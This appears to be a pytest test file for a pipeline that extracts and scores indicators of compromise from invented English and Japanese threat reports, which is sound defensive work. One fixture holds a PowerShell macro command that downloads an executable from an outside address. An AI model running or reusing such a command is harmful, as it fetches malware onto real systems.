"""The ledger on invented pages: what is an indicator, what is not, why, and what each row says."""

from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from secdigest_pipeline.indicators.finding.defang import refang
from secdigest_pipeline.indicators.finding.observables import wrong_offsets
from secdigest_pipeline.indicators.finding.spelling import normal
from secdigest_pipeline.indicators.judging.ledger import ledger
from secdigest_pipeline.indicators.judging.scoring import Reason, confidence, log_odds
from secdigest_pipeline.indicators.records import IOCS, Threat
from secdigest_pipeline_tests.indicators.pages import EDITION, MD5, SHA256, names, page, rows

REPORT = f"""FakeRAT returns with a new loader
Researchers at the vendor describe a campaign in https://vendor.example/blog/fakerat in detail, and a second team confirmed the findings.
The loader connects to update-check[.]test and checks its address at api.ipify.org before it goes on.
Indicators of Compromise
Type | Value
C2 | 45.83.12[.]9:8443
SHA256 | {SHA256}
URL | hxxps://cdn.update-check[.]test/a.php
References
https://attack.example/techniques/T1071
"""


@pytest.mark.parametrize(
    ("value", "type", "role", "reason"),
    [
        ("update-check.test", "domain", "attacker_infrastructure", "attacker_wording"),
        ("45.83.12.9", "ipv4", "attacker_infrastructure", "indicator_section"),
        (SHA256, "sha256", "malware_sample", "indicator_section"),
        ("https://cdn.update-check.test/a.php", "url", "attacker_infrastructure", "defanged"),
    ],
)
def test_what_an_article_gives_as_indicators_is_kept(value: str, type: str, role: str, reason: str) -> None:
    row = rows(REPORT)[value]
    assert (row.type, row.role, row.is_ioc, row.suppressed) == (type, role, True, "")
    assert reason in names(row)
    assert row.confidence > 0.9


@pytest.mark.parametrize(
    ("value", "role", "suppressed"),
    [
        ("https://vendor.example/blog/fakerat", "reference", "live_link"),
        ("api.ipify.org", "reference", "warning_list:whats-my-ip"),
        ("https://attack.example/techniques/T1071", "reference", "live_link"),
    ],
)
def test_references_stay_in_the_ledger_with_the_reason_that_keeps_them_out(
    value: str, role: str, suppressed: str
) -> None:
    row = rows(REPORT)[value]
    assert (row.role, row.is_ioc, row.suppressed) == (role, False, suppressed)


def test_nothing_found_is_dropped_and_rows_fit_their_table() -> None:
    table = ledger([page(REPORT + "CVE-2026-12345 info@update-check[.]test")], {}, {})
    assert {row.type for row in table} == {"url", "domain", "ipv4", "sha256", "cve", "email"}
    assert IOCS.rows(IOCS.arrow(table)) == table
    assert wrong_offsets(table, [page(REPORT + "CVE-2026-12345 info@update-check[.]test")]) == []


def test_cve_ids_and_mail_addresses_are_rows_but_no_indicators() -> None:
    table = rows("IOCs\nCVE-2026-12345\nboss@evil-mail[.]test\n")
    assert table["CVE-2026-12345"].suppressed == table["boss@evil-mail.test"].suppressed == "not_collected"
    assert not table["CVE-2026-12345"].is_ioc
    assert table["boss@evil-mail.test"].role == "attacker_infrastructure"


JAPANESE = f"""偽の更新プログラムに注意
この検体は通信先update-kakunin[.]testへ接続し、情報を窃取する。詳細は公式サイトhttps://vendor.example/ja/blogを参照。
侵害の痕跡
通信先：
- hxxp://update-kakunin[.]test/gate.php
- 45.83.12[.]10
ハッシュ値
- {SHA256}
参考情報
https://jp-cert.example/at/2026/at260001.html
"""


def test_japanese_pages_are_read_the_same_way() -> None:
    table = rows(JAPANESE)
    kept = {value for value, row in table.items() if row.is_ioc}
    assert kept == {"update-kakunin.test", "http://update-kakunin.test/gate.php", "45.83.12.10", SHA256}
    assert table["45.83.12.10"].context_ja == "マルウェアの通信先として記載"
    assert "reference_section" in names(table["https://jp-cert.example/at/2026/at260001.html"])


@pytest.mark.parametrize(
    "heading",
    ["## Indicators of Compromise (IoCs)", "Network indicators", "C2 servers:", "**IOCs**", "侵害指標", "== Domains"],
)
def test_a_live_host_in_a_list_of_indicators_is_one(heading: str) -> None:
    row = rows(f"A story\n\n{heading}\n\nbad-host.test\nother-bad-host.test\n")["bad-host.test"]
    assert row.is_ioc
    assert "indicator_section" in names(row)


@pytest.mark.parametrize("menu", ["Domains", "Network", "Indicators of Compromise", "Samples"])
def test_a_menu_that_names_such_a_chapter_opens_no_list(menu: str) -> None:
    text = f"Home\n{menu}\nAbout us\nLogin\nThe shop moved to new-shop.test last week, its owner says in a letter to customers."
    assert not rows(text)["new-shop.test"].is_ioc


def test_a_list_ends_where_references_or_prose_begin() -> None:
    prose = "The company told reporters that nothing else is known about the matter. " * 5
    table = rows(f"IOCs\nbad-host.test\n\n{prose}\nwww.partner.test\n\nReferences\nhttps://paper.test/report\n")
    assert table["bad-host.test"].is_ioc
    assert not table["www.partner.test"].is_ioc
    assert not table["https://paper.test/report"].is_ioc


def test_the_outlets_own_live_hosts_are_references_whatever_stands_beside_them() -> None:
    row = rows("IOCs\nC2: status.outlet.example\nevil[.]test\n")["status.outlet.example"]
    assert (row.role, row.suppressed, row.confidence) == ("reference", "own_outlet", 0.0)


def test_a_host_of_the_outlets_own_that_the_article_defangs_is_meant_as_it_stands() -> None:
    row = rows("IOCs\nC2: status[.]outlet[.]example\nevil[.]test\n")["status.outlet.example"]
    assert row.is_ioc and "own_outlet" not in names(row)


def test_an_article_on_a_shared_service_is_not_the_services() -> None:
    payload = "https://github.com/somebody/kit/raw/main/a.exe"
    [row] = [
        row
        for row in ledger([page(f"IOCs\n{payload}\n", url="https://github.com/labs/notes/wiki")], {}, {})
        if row.value == payload
    ]
    assert "own_outlet" not in names(row)


def test_a_value_that_stands_under_references_and_elsewhere_too_is_no_mere_reference() -> None:
    text = "IOCs\nbad-host.test\n\nReferences\nbad-host.test\nother-host.test\n"
    table = rows(text)
    assert "reference_section" not in names(table["bad-host.test"])
    assert "reference_section" in names(table["other-host.test"])


def test_lists_are_asked_about_live_values_only() -> None:
    live = rows("The sample fetches pastebin.com from time to time.")["pastebin.com"]
    broken = rows("The sample fetches its C2 address from pastebin[.]com from time to time.")["pastebin.com"]
    assert live.suppressed.startswith("warning_list:")
    assert (broken.is_ioc, broken.role, broken.known) == (True, "abused_service", True)
    assert "warning_list" not in names(broken)


@pytest.mark.parametrize("value", ["github.com", "t.me", "google.com"])
def test_the_six_hosts_of_the_contract_are_never_indicators_by_themselves(value: str) -> None:
    text = value.replace(".", "[.]")
    table = rows(f"IOCs\n{text}\nhxxps://{text}\nhxxps://{text}/evil-group/tool\n")
    assert table[value].suppressed == "well_known_host"
    assert table[f"https://{value}"].suppressed == "well_known_host"
    row = table[f"https://{value}/evil-group/tool"]
    assert (row.is_ioc, row.role, row.known, row.context_ja) == (
        True,
        "abused_service",
        True,
        "悪用された正規サービスとして記載",
    )


def test_a_live_path_on_a_shared_service_is_an_indicator_only_where_indicators_are_listed() -> None:
    listed = rows("IOCs\nPayload: https://github.com/evil-group/tool\n")["https://github.com/evil-group/tool"]
    cited = rows("The code is at https://github.com/good-group/tool for everybody.")[
        "https://github.com/good-group/tool"
    ]
    assert (listed.is_ioc, listed.role) == (True, "abused_service")
    assert not cited.is_ioc


@pytest.mark.parametrize(
    ("address", "suppressed"),
    [
        ("192.0.2.10", "reserved_address"),
        ("127.0.0.1", "reserved_address"),
        ("8.8.8.8", "public_resolver"),
        ("2001:db8::5", "reserved_address"),
        ("3fff::5", "reserved_address"),
        ("100.64.1.1", "reserved_address"),
    ],
)
def test_addresses_that_are_nobodys_are_suppressed_even_in_a_list(address: str, suppressed: str) -> None:
    assert rows(f"IOCs\n{address}\n45.83.12[.]9\n")[address].suppressed == suppressed


def test_a_private_address_is_an_indicator_only_where_the_article_lists_it() -> None:
    assert rows("IOCs\nC2: 10.0.0[.]5\n")["10.0.0.5"].is_ioc
    assert rows("The malware pivots to 10.0.0[.]5 inside the network.")["10.0.0.5"].suppressed == "private_address"
    assert rows("IOCs\nhxxp://10.0.0[.]5/a\n")["http://10.0.0.5/a"].suppressed == "private_address"


@pytest.mark.parametrize(
    ("text", "suppressed"),
    [
        ("Empty file: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "harmless_hash:empty-hashes"),
        ("The fix is commit da4b9237bacccdf19c0760cab7aec4a8359010b0 of the project.", "not_a_file_hash"),
        (
            "See https://scan.test/file/16f6d2b87d6a387e7d384687654402196185dc9e6017bf24937e9374c7b2773e for it.",
            "inside_link",
        ),
    ],
)
def test_hashes_that_are_no_samples_are_suppressed(text: str, suppressed: str) -> None:
    table = [row for row in ledger([page(text)], {}, {}) if row.type != "url"]
    assert [row.suppressed for row in table] == [suppressed]


def test_a_hash_that_stands_outside_a_link_too_is_a_sample() -> None:
    assert rows(f"See https://scan.test/file/{SHA256} for it.\nIOCs\n{SHA256}\n")[SHA256].is_ioc


def test_a_host_the_article_defangs_elsewhere_is_one_where_it_is_live() -> None:
    row = rows("The C2 evil-cdn[.]test was seen.\nhttp://evil-cdn.test:8080/x\n")["http://evil-cdn.test:8080/x"]
    assert "same_host_defanged" in names(row)


def test_a_value_that_another_article_gives_counts_for_more() -> None:
    other = page("IOCs\nbad-host.test\n", article_id="a2")
    alone = ledger([page("A mention of bad-host.test here.")], {}, {})[0]
    with_other = ledger([page("A mention of bad-host.test here."), other], {}, {})[0]
    assert "other_articles" not in names(alone)
    assert "other_articles" in names(with_other)
    assert with_other.confidence > alone.confidence


@pytest.mark.parametrize(
    ("text", "value", "category"),
    [
        ("C2: evil-a[.]test", "evil-a.test", "c2"),
        ("Payload downloaded from hxxp://evil-a[.]test/x", "http://evil-a.test/x", "c2"),
        ("The phishing page evil-a[.]test asks for passwords", "evil-a.test", "phishing-site"),
        ("フィッシングサイト evil-a[.]test", "evil-a.test", "phishing-site"),
        ("Brute force login attempts came from 45.83.12[.]9", "45.83.12.9", "srcip"),
        ("We saw evil-a[.]test too", "evil-a.test", "unknown"),
        (f"The backdoor has the hash {MD5}", MD5, "malware"),
        (f"Legitimate signed binary used for loading: {MD5}", MD5, "abusefile"),
        (f"Mimikatz: {MD5}", MD5, "tool"),
        (f"Decoy document: {MD5}", MD5, "related-file"),
    ],
)
def test_the_category_is_what_the_words_beside_a_value_say(text: str, value: str, category: str) -> None:
    assert rows(text)[value].category == category


def test_a_value_that_is_no_indicator_carries_no_attackers_phrase() -> None:
    row = rows("The malware contacts update-check[.]test; see https://vendor.example/blog for the C2 analysis.")
    assert (row["https://vendor.example/blog"].category, row["https://vendor.example/blog"].context_ja) == (
        "unknown",
        "",
    )


def test_actor_and_malware_come_from_the_analysis_alone() -> None:
    threat = Threat("FakeBear (medium confidence)", "cybercrime", "FakeRAT", "RAT")
    row = rows("IOCs\nevil-c2[.]test\n", threat=threat)["evil-c2.test"]
    assert (row.actor, row.actor_attribute, row.malware, row.malware_type) == (
        "FakeBear (medium confidence)",
        "cybercrime",
        "FakeRAT",
        "RAT",
    )
    nobody = rows("FakeBear spreads FakeRAT.\nIOCs\nevil-c2[.]test\n")["evil-c2.test"]
    assert (nobody.actor, nobody.actor_attribute, nobody.malware, nobody.malware_type) == ("unknown",) * 4


@pytest.mark.parametrize("name", ["=HYPERLINK(1)", "@handle", "-x", "+x", "", "  ", "\n"])
def test_a_name_a_spreadsheet_would_compute_is_unknown(name: str) -> None:
    row = rows("IOCs\nevil-c2[.]test\n", threat=Threat(name, name, name, name))["evil-c2.test"]
    assert (row.actor, row.actor_attribute, row.malware, row.malware_type) == ("unknown",) * 4


@pytest.mark.parametrize(
    ("published", "day"),
    [
        (datetime(2026, 9, 29, 14, 59, tzinfo=UTC), "2026-09-29"),
        (datetime(2026, 9, 29, 15, 0, tzinfo=UTC), "2026-09-30"),
        (datetime(2026, 12, 1, tzinfo=UTC), EDITION),
        (None, EDITION),
    ],
)
def test_the_date_is_the_articles_day_in_japan_and_never_after_the_edition(
    published: datetime | None, day: str
) -> None:
    assert ledger([page("evil-c2[.]test", published_at=published)], {}, {})[0].date == day


def test_places_ports_and_occurrences_are_those_of_the_page() -> None:
    text = "First 45.83.12[.]9 then again\n45.83.12[.]9:8443 and once more 45.83.12.9"
    row = rows(text)["45.83.12.9"]
    assert (row.occurrences, row.port, row.raw, text[row.start : row.end]) == (3, 8443, "45.83.12[.]9", "45.83.12[.]9")
    assert row.defanged


def test_evidence_is_one_short_line_that_holds_the_value_as_spelled() -> None:
    row = rows("x" * 300 + " evil-c2[.]test\t\x07 " + "y" * 300 + "\nnext line")["evil-c2.test"]
    assert "evil-c2[.]test" in row.evidence
    assert len(row.evidence) <= 200
    assert row.evidence.isprintable()


def test_an_ioc_that_the_csv_cannot_hold_says_so() -> None:
    table = rows(f"IOCs\na_b.evil[.]test\nevil[.]test/a.exe\n{SHA256 * 2}\n")
    assert table["a_b.evil.test"].suppressed == "csv:value_is_not_a_domain_name_the_contract_takes"
    assert table["evil.test/a.exe"].suppressed == "csv:url_without_scheme"
    assert table[SHA256 * 2].suppressed == "csv:type_not_in_csv"
    assert all(row.is_ioc for row in table.values())


def test_confidence_is_computed_from_the_reasons_of_the_table_and_nothing_else() -> None:
    for row in ledger([page(REPORT)], {}, {}):
        reasons = tuple(Reason(*text.split(":", 1)) for text in row.reasons)
        assert row.confidence == confidence(log_odds(reasons))
        assert row.is_ioc == (log_odds(reasons) > 0)


def test_headings_of_a_page_reach_the_reasons_as_one_clean_line() -> None:
    row = rows("IOCs of \ud800 the\x07 case\nevil-a[.]test")["evil-a.test"]
    assert "indicator_section:IOCs of the case" in row.reasons


def test_words_beside_one_value_do_not_speak_of_the_next() -> None:
    table = rows(f"IOCs\n| {SHA256} | backdoor library | {MD5} | legitimate program that is abused |\n")
    assert (table[SHA256].category, table[MD5].category) == ("malware", "abusefile")


def test_one_article_with_nothing_on_its_page_costs_the_others_nothing() -> None:
    table = ledger([page("", article_id="a0"), page("evil-c2[.]test"), page("\ud800\x00", article_id="a3")], {}, {})
    assert [(row.article_id, row.value) for row in table] == [("a1", "evil-c2.test")]


def test_a_page_of_more_values_than_sentences_are_read_of_keeps_every_one() -> None:
    table = ledger([page("\n".join(f"It connects to c{number}.evil[.]test now." for number in range(10_050)))], {}, {})
    assert len(table) == 10_050 and all(row.is_ioc for row in table)
    assert "attacker_wording" in names(table[0]) and "attacker_wording" not in names(table[-1])


PIECES = st.sampled_from(
    [
        "evil-a[.]test", "hxxps://evil-b[.]test/x,y?q=1", "hxxp://evil[.]test/[a](b)", "45.83.12[.]9:443", "10.0.0.1", "8.8.8.8",
        "bad.test/a.exe", SHA256, MD5, "CVE-2026-1", "boss@evil[.]test", "github[.]com", "https://github.com/a/b",
        "a_b.evil[.]test", "[::1]", "hxxp://[2606:4700::1]/x", "2606:4700::1", "xn--fiqs8s.xn--fiqs8s", "IOCs", "References",
        "通信先", "ドメイン", "C2:", "# ", "| a | b |", "----", "\n", "\n\n", " ", "、", ",", "=cmd", "@x", "-1", "`", "\x00",
        "\u202e", "\ud800",
    ]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_any_page_gives_rows_that_stand_on_it(text: str) -> None:
    table = ledger([page(text)], {}, {})
    for row in table:
        assert text[row.start : row.end] == row.raw
        assert normal(row.type, refang(row.raw)) == row.value
    assert len({(row.type, row.value) for row in table}) == len(table)
    for row in table:
        assert 0 <= row.confidence <= 1
        assert bool(row.suppressed) or row.is_ioc
        assert len(row.evidence) <= 200 and "\n" not in row.evidence
    IOCS.arrow(table)


LISTED = "Indicators of Compromise\n"


@pytest.mark.parametrize(
    "text",
    [
        LISTED + "- bank[.]test - legitimate site, used only as a connectivity check\n- c2.evil[.]test - C2\n",
        LISTED + "| bank[.]test | 正規サイト |\n| c2.evil[.]test | C2 |\n",
        LISTED + "- bank[.]test：悪性ではない\n- c2.evil[.]test：通信先\n",
        LISTED + "- 正規サイト: bank[.]test\n- c2.evil[.]test\n",
        "通信先一覧\n- bank[.]test（接続確認用）\n- c2.evil[.]test\n",
        "The page imitates the legitimate site bank[.]test and sends data to c2.evil[.]test.",
        "偽サイトc2.evil[.]testは、正規サイト bank[.]test を装う。",
        "マルウェアは疎通確認のため bank[.]test に接続し、次に c2.evil[.]test に接続する。",
    ],
)
def test_a_row_or_sentence_that_calls_its_value_legitimate_outweighs_the_heading(text: str) -> None:
    table = rows(text)
    assert (table["bank.test"].is_ioc, table["bank.test"].suppressed) == (False, "called_innocent")
    assert table["c2.evil.test"].is_ioc


@pytest.mark.parametrize(
    "text",
    [
        LISTED + "- c2.evil[.]test (legitimate site, compromised to host the loader)\n",
        LISTED + "- c2.evil[.]test (legitimate-looking domain)\n",
        LISTED + "- c2.evil[.]test（改ざんされた正規サイト）\n",
        "正規サイトに見せかけた c2.evil[.]test に誘導する。",
        "The decoy document was fetched from c2.evil[.]test.",
    ],
)
def test_a_site_that_was_turned_or_only_looks_legitimate_is_an_indicator(text: str) -> None:
    assert rows(text)["c2.evil.test"].is_ioc


def test_addresses_of_platforms_are_suppressed_with_their_list_even_in_a_list_of_indicators() -> None:
    table = rows(LISTED + "- 149[.]154[.]167[.]220\n- 20[.]190[.]159[.]23\n- 142[.]250[.]1[.]1\n- 45.83.12[.]9\n")
    assert table["149.154.167.220"].suppressed == "platform_address:platform-telegram"
    assert table["20.190.159.23"].suppressed.startswith("platform_address:")
    assert table["142.250.1.1"].suppressed == "platform_address:platform-google"
    assert table["45.83.12.9"].is_ioc


@pytest.mark.parametrize(
    ("text", "is_ioc"),
    [
        (f"Files\n\nGit-Update.Serial.msi | {SHA256}\n", True),
        (f"The ransom was paid in transaction (txid) {SHA256} to them.", False),
        (f"送金のトランザクションIDは {SHA256} である。", False),
        (f"The payments\n\nトランザクションID\n- {SHA256}\n", False),
        (f"built from git commit {SHA256[:40]} of it", False),
    ],
)
def test_words_of_a_file_name_say_nothing_of_its_hash_and_a_payment_is_no_file(text: str, is_ioc: bool) -> None:
    (row,) = (row for row in ledger([page(text)], {}, {}) if row.type in ("sha1", "sha256"))
    assert row.is_ioc is is_ioc


def test_a_live_url_in_a_command_that_fetches_it_is_an_indicator_and_one_in_a_sentence_is_not() -> None:
    table = rows(
        "The macro runs this:\n\npowershell -c \"(New-Object Net.WebClient).DownloadFile('http://45.83.12.9/a.exe',$p)\"\n\n"
        "More in https://vendor.example/blog/macro of last week.\n"
    )
    assert table["http://45.83.12.9/a.exe"].is_ioc and "download_command" in names(table["http://45.83.12.9/a.exe"])
    assert not table["https://vendor.example/blog/macro"].is_ioc


def test_live_names_that_a_sentence_gives_to_the_attackers_and_tor_names_are_indicators() -> None:
    onion = "w7d5g6qsj45ec2zqeml66imq27t3dgxxrt3koreuqhittp45736ozoid.onion"
    table = rows(
        f"The gang keeps two sites.\n\nChat: {onion}\n\nThe shops shopa7.test and shopb7.test are run by the attackers.\n"
    )
    assert table[onion].is_ioc and table["shopa7.test"].is_ioc and table["shopb7.test"].is_ioc


def test_what_reports_do_not_collect_is_in_the_ledger_as_what_it_is_and_as_nothing_else() -> None:
    md5 = MD5[:-1] + "0"
    text = LISTED + (
        f"- 45.83.12[.]0/24\n- 45.83.12[.]1 - 45.83.12[.]9\n- loader.exe {SHA256}\n- imphash: {md5}\n"
        "- HKCU\\Software\\Midori\\Run\n- ops@evil-mail[.]test\n\nIt phishes (T1566.001).\n"
    )
    table = rows(text)
    assert {value: (row.type, row.role) for value, row in table.items()} == {
        "45.83.12.0/24": ("cidr", "attacker_infrastructure"),
        "45.83.12.1-45.83.12.9": ("ip_range", "attacker_infrastructure"),
        "loader.exe": ("file_name", "malware_sample"),
        SHA256: ("sha256", "malware_sample"),
        md5: ("imphash", "malware_sample"),
        "HKCU\\Software\\Midori\\Run": ("registry_key", "malware_sample"),
        "ops@evil-mail.test": ("email", "attacker_infrastructure"),
        "T1566.001": ("attack_id", "reference"),
    }
    assert [row.value for row in table.values() if row.is_ioc] == [SHA256]
    assert {row.suppressed for row in table.values() if not row.is_ioc} == {"not_collected"}
    assert all(text[row.start : row.end] == row.raw for row in table.values())


def test_live_values_in_a_row_behind_a_label_are_indicators_and_one_alone_may_be_anything() -> None:
    table = rows("PaperHeron: shopa7.test shopb7.test 45.83.12.9 shopc7.test.\n\nMirador: shopd7.test\n")
    assert [value for value, row in table.items() if row.is_ioc] == [
        "shopa7.test",
        "shopb7.test",
        "45.83.12.9",
        "shopc7.test",
    ]
    assert all(row.confidence < 0.65 for row in table.values())


def test_a_platforms_own_name_is_suppressed_with_its_list_and_what_lies_at_a_path_of_it_is_for_the_article_to_say() -> (
    None
):
    table = rows(
        LISTED + "- login.microsoftonline[.]com\n- c2.evil[.]test\n- hxxps://docs.google[.]com/forms/d/1x/viewform\n"
    )
    assert table["login.microsoftonline.com"].suppressed.startswith("platform_name:microsoft")
    assert table["c2.evil.test"].is_ioc and table["https://docs.google.com/forms/d/1x/viewform"].is_ioc


def test_a_private_network_is_in_the_ledger_and_nobodys_indicator() -> None:
    table = rows(LISTED + "- 10.0.0.0/8\n- 45.83.12.0/24\n")
    assert (table["10.0.0.0/8"].suppressed, table["45.83.12.0/24"].suppressed) == ("private_address", "not_collected")
